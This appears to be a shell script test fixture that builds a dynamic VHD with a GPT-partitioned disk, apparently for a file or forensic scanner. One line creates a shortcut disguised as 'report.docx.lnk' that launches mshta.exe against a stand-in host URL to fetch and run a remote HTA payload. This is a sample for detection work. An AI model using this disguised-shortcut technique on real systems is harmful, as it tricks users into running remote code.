# A dynamic VHD (mkvhd.py, no MBR of its own) whose disk sgdisk partitioned
# with a GPT: partition 1 an empty FAT volume, partition 2 a FAT16 volume
# holding a shortcut with a double extension. The GPT is read through the
# VHD's blocks; each partition is named by its entry's index.
truncate -s 12M disk.img
sgdisk -n 1:2048:+1M -t 1:ef00 -n 2:4096:+6M -t 2:0700 disk.img >/dev/null
mkfs.fat -C efi.img 1024 >/dev/null
mkfs.fat -F 16 -s 1 -C vol.img 6144 >/dev/null
$PY "$FIXTURES/mklnk.py" a.lnk --target 'C:\Windows\System32\mshta.exe' --args 'http://203.0.113.7/x.hta'
mcopy -i vol.img a.lnk ::report.docx.lnk
dd if=efi.img of=disk.img bs=512 seek=2048 conv=notrunc status=none
dd if=vol.img of=disk.img bs=512 seek=4096 conv=notrunc status=none
$PY "$FIXTURES/mkvhd.py" "$OUT" disk.img --no-mbr --dynamic
